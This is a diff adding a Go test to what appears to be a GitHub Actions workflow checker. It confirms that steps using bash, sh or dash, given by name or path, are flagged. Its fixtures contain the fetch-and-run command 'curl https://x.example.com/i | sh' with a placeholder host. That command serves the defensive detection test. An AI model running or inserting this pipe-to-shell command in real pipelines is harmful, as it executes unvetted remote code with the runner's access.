@@ -155,3 +155,13 @@ func TestMergedJobs(t *testing.T) {
 		t.Errorf("got %v, want %v", got, want)
 	}
 }
+
+// TestShells: a shell may be named by its path.
+func TestShells(t *testing.T) {
+	for shell, want := range map[string]int{"bash": 1, "sh -e {0}": 1, "/bin/bash -e {0}": 1, "/usr/bin/dash {0}": 1, "python": 0} {
+		src := "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - shell: " + shell + "\n        run: curl https://x.example.com/i | sh\n"
+		if got := check(t, src); len(got) != want {
+			t.Errorf("%s: got %+v", shell, got)
+		}
+	}
+}
